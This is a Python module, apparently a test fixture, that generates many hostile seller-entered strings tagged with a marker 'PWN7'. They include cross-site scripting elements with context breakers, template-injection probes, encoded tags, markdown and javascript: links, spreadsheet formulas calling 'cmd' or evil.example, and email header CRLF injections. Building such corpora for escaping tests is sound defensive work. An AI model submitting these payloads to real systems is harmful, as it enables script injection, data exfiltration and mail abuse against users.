"""Hostile words as a seller could write them, generated over contexts and encodings; each carries the mark that must never act."""

from __future__ import annotations

from itertools import product

MARK = "PWN7"

_SCRIPTS = (f"alert({MARK!r})", f"fetch('//evil.example/{MARK}')")
_ELEMENTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<iframe srcdoc=\"<script>{}</script>\">",
    "<a href=\"javascript:{}\">x</a>", "<math><mtext><img src=x onerror={}></mtext></math>", "<style>@import '//evil.example/{}'</style>", "<base href=//evil.example/><!--{}-->",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<form action=//evil.example/><button>{}</button></form>", "<link rel=stylesheet href=//evil.example/{}>",
    "<object data=\"javascript:{}\">", "<video><source onerror={}>", "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<body onload={}>",
)  # fmt: skip
_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</style>",
    "</textarea>",
    "-->",
    "]]>",
    "</mark>",
    '" x="',
    "' onmouseover='",
    "\x00",
    "\u2028",
)
HTML = tuple(
    before + element.format(script) for before, element, script in product(_BREAKS, _ELEMENTS, _SCRIPTS[:1])
)

TEMPLATES = (
    "{{7*7}}PWN7",
    "{% for x in range(9) %}PWN7{% endfor %}",
    "${7*7}PWN7",
    "#{7*7}PWN7",
    "{{config}}PWN7",
    "{{ ''.__class__.__mro__ }}PWN7",
    "%(x)sPWN7",
    "{0.__class__}PWN7",
)

ENTITIES = (
    "&lt;script&gt;PWN7",
    "&#60;script&#62;PWN7",
    "&#x3c;script&#x3e;PWN7",
    "\\u003cscript\\u003ePWN7",
    "%3Cscript%3EPWN7",
    "＜script＞PWN7",
    "+ADw-script+AD4-PWN7",
    "<\x00script>PWN7",
    "<script\x0b>PWN7",
)

MARKDOWN = (
    "[x](javascript:PWN7)", "![x](//evil.example/PWN7)", "[x]: //evil.example/PWN7", "<//evil.example/PWN7>", "<https://evil.example/PWN7>", "`PWN7`", "```\nPWN7\n```",
    "# PWN7", "\n# PWN7", "\n\n<b>PWN7</b>", "| PWN7 | x |\n|---|---|", "**PWN7**", "~~PWN7~~", "- [ ] PWN7", "1. PWN7", "> PWN7", "\\[x](javascript:PWN7)", "[x](\tjavascript:PWN7)",
    "[![x](//evil.example/PWN7)](//evil.example)", "https://evil.example/PWN7", "www.evil.example/PWN7", "@everyone PWN7", "<!channel> PWN7", "<@U123> PWN7", "||PWN7||", "***PWN7", "___PWN7___",
    "&#91;x&#93;(javascript:PWN7)", "[x](<javascript:PWN7>)", "[x](javascript&colon;PWN7)", "<a\nhref=javascript:PWN7>", "PWN7\u202egnp.exe",
)  # fmt: skip

_CALLS = (
    "1+1",
    'HYPERLINK("//evil.example/PWN7","x")',
    "cmd|' /C calc'!A0",
    'IMPORTXML("//evil.example/PWN7","//a")',
    'DDE("cmd";"/C calc";"PWN7")',
    "SUM(1+1)*cmd|' /C PWN7'!A0",
    'WEBSERVICE("//evil.example/PWN7")',
)
_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    '"=',
    "＝",
    "＋",
    "－",
    "＠",
    "\u00a0=",
    "\ufeff=",
    "\u200b=",
    ";=",
    ",=",
    "\x00=",
    "|=",
    "%=",
    "=-",
    "-+",
)
FORMULAS = tuple(start + call for start, call in product(_STARTS, _CALLS))

_ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\r\n\r\n",
    "\u2028",
    "\u2029",
    "\u0085",
    "\x0b",
    "\x0c",
    "%0d%0a",
    "\\r\\n",
    "\r\n ",
    "\r\n\t",
    "\x00\r\n",
)
_LINES = (
    "Bcc: evil@evil.example",
    "Subject: PWN7",
    "Content-Type: text/html",
    "<script>PWN7</script>",
    "From: evil@evil.example",
    "To: evil@evil.example",
    ".",
    "MAIL FROM:<evil@evil.example>",
    "X-PWN7: 1",
)
HEADERS = tuple(f"H100{end}{line}" for end, line in product(_ENDS, _LINES))

ADDRESSES = (
    "javascript:alert('PWN7')",
    "JaVaScRiPt:PWN7",
    "data:text/html,<script>PWN7</script>",
    "vbscript:PWN7",
    " javascript:PWN7",
    "java\tscript:PWN7",
    "//evil.example/PWN7",
    'https://x/" onclick=PWN7',
    "https://x/><script>PWN7</script>",
    "https://x/\r\nPWN7",
    "file:///etc/PWN7",
    "\x01javascript:PWN7",
)

ALL = HTML + TEMPLATES + ENTITIES + MARKDOWN + FORMULAS + HEADERS
